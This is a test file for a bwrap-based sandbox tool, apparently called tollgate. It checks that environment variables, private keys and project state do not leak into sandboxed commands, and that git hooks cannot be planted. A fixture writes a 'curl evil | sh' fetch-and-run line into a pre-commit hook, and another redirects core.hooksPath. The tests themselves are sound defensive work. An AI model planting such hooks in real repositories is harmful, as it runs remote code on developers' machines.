import { afterEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { runProcess } from "../../../src/core/process.ts";
import { tollgateFolders } from "../../../src/sandbox/bwrap.ts";
import { execute } from "../../../src/sandbox/executor.ts";
import { plan } from "../../fixtures/sandbox/plans.ts";
import { tempDir } from "../../helpers.ts";
import { inside, outside, sh } from "./helpers.ts";

const saved = { XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME, CANARY: process.env.TOLLGATE_ENV_CANARY };
afterEach(() => {
  if (saved.XDG_CONFIG_HOME === undefined) delete process.env.XDG_CONFIG_HOME;
  else process.env.XDG_CONFIG_HOME = saved.XDG_CONFIG_HOME;
  delete process.env.TOLLGATE_ENV_CANARY;
});

describe("nothing of the host leaks in", () => {
  test("host environment variables: a canary in tollgate's environment is not in the command's", async () => {
    process.env.TOLLGATE_ENV_CANARY = "env-canary-41d9";
    // A runner that hands over its own environment leaks it.
    const naive = await runProcess(["/usr/bin/env"], { env: process.env as Record<string, string>, timeoutMs: 5000 });
    expect(naive.stdout.text).toContain("env-canary-41d9");
    const result = await inside([["/usr/bin/env"]], { env: { PATH: "/usr/bin:/bin", KEPT: "yes" } });
    expect(result.stdout.text).not.toContain("env-canary-41d9");
    // PWD is bwrap's own, set by --chdir to the plan's cwd.
    expect(result.stdout.text.split("\n").filter(Boolean).sort()).toEqual([
      "KEPT=yes",
      "PATH=/usr/bin:/bin",
      "PWD=/usr",
    ]);
  });

  test("tollgate's private key is hidden even when a read path covers it", async () => {
    const home = tempDir("tollgate-home-");
    process.env.XDG_CONFIG_HOME = join(home, ".config");
    mkdirSync(join(home, ".config", "tollgate", "keys"), { recursive: true });
    writeFileSync(join(home, ".config", "tollgate", "keys", "team.key"), "PRIVATE-KEY-CANARY");
    const read = ["/usr/bin/cat", join(home, ".config", "tollgate", "keys", "team.key")];
    expect((await outside([read], { cwd: home })).stdout.text).toBe("PRIVATE-KEY-CANARY");
    const result = await execute([plan([read], { cwd: home, readPaths: [home] })], { mode: "hardened" });
    expect(result.commands[0]?.status).toBe("failed");
    expect(JSON.stringify(result)).not.toContain("PRIVATE-KEY-CANARY");
    expect(tollgateFolders(plan([read], { cwd: home }))).toContain(join(home, ".config", "tollgate"));
  });

  test("the project's .tollgate state is hidden from a command in the project", async () => {
    const project = tempDir("tollgate-project-");
    mkdirSync(join(project, ".git"));
    mkdirSync(join(project, ".tollgate"));
    writeFileSync(join(project, ".tollgate", "replay.db"), "STATE-CANARY");
    const read = ["/usr/bin/cat", ".tollgate/replay.db"];
    expect((await outside([read], { cwd: project })).stdout.text).toBe("STATE-CANARY");
    const result = await execute([plan([read], { cwd: project })], { mode: "hardened" });
    expect(result.commands[0]?.stdout.text).toBe("");
  });
});

/** A git repository the command may write to. */
async function repo(): Promise<string> {
  const dir = tempDir("tollgate-repo-");
  const git = await runProcess(["git", "init", "-q", dir], { env: { PATH: "/usr/bin:/bin" }, timeoutMs: 5000 });
  expect(git.exitCode).toBe(0);
  return dir;
}

const plantHook = sh("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
const setHooksPath = ["/usr/bin/git", "config", "core.hooksPath", "/tmp/evil-hooks"];
const gitEnv = { PATH: "/usr/bin:/bin", HOME: "/tmp" };

describe("a writable repository cannot plant code that runs outside the sandbox", () => {
  test(".git/hooks/pre-commit and .git/config are read-only; the work tree and objects stay writable", async () => {
    const outsideRepo = await repo();
    expect((await outside([plantHook], { cwd: outsideRepo, env: gitEnv })).status).toBe("success");
    expect((await outside([setHooksPath], { cwd: outsideRepo, env: gitEnv })).status).toBe("success");
    expect(readFileSync(join(outsideRepo, ".git", "config"), "utf8")).toContain("hooksPath");

    const dir = await repo();
    const scope = { cwd: dir, writePaths: [dir], env: gitEnv };
    const hook = await inside([plantHook], scope);
    expect(hook.status).toBe("failed");
    expect(hook.stderr.text).toContain("Read-only file system");
    expect(existsSync(join(dir, ".git", "hooks", "pre-commit"))).toBe(false);
    const config = await inside([setHooksPath], scope);
    expect(config.status).toBe("failed");
    expect(readFileSync(join(dir, ".git", "config"), "utf8")).not.toContain("hooksPath");
    const work = await inside([sh("echo code > file.txt && git add file.txt")], scope);
    expect(work.status).toBe("success");
    expect(readFileSync(join(dir, "file.txt"), "utf8")).toBe("code\n");
  });

  test("a .git/hooks that is a symlink to a folder in the writable tree is protected where it points", async () => {
    const dir = await repo();
    mkdirSync(join(dir, "shared-hooks"));
    await runProcess(["rm", "-rf", join(dir, ".git", "hooks")], { env: {}, timeoutMs: 5000 });
    symlinkSync(join(dir, "shared-hooks"), join(dir, ".git", "hooks"));
    const result = await inside([plantHook], { cwd: dir, writePaths: [dir], env: gitEnv });
    expect(result.status).toBe("failed");
    expect(existsSync(join(dir, "shared-hooks", "pre-commit"))).toBe(false);
  });

  test("a repository without .git/hooks gets the empty folder git itself creates, and no placeholder file", async () => {
    const dir = await repo();
    await runProcess(["rm", "-rf", join(dir, ".git", "hooks")], { env: {}, timeoutMs: 5000 });
    const result = await inside([plantHook], { cwd: dir, writePaths: [dir], env: gitEnv });
    expect(result.status).toBe("failed");
    expect(existsSync(join(dir, ".git", "hooks", "pre-commit"))).toBe(false);
    const status = await runProcess(["git", "status", "--porcelain"], { cwd: dir, env: gitEnv, timeoutMs: 5000 });
    expect(status.stdout.text).toBe("");
  });
});

test("a writable project without .tollgate cannot plant tollgate state: the folder is created and hidden", async () => {
  const project = await repo();
  const plant = sh("mkdir -p .tollgate && echo forged > .tollgate/gates-cache.json");
  const outsideProject = tempDir("tollgate-project-");
  expect((await outside([plant], { cwd: outsideProject })).status).toBe("success");
  expect(existsSync(join(outsideProject, ".tollgate", "gates-cache.json"))).toBe(true);

  const result = await execute([plan([plant], { cwd: project, writePaths: [project] })], { mode: "hardened" });
  expect(result.commands[0]?.sandboxError).toBeUndefined();
  expect(result.commands[0]?.status).toBe("success");
  expect(existsSync(join(project, ".tollgate", "gates-cache.json"))).toBe(false);
});
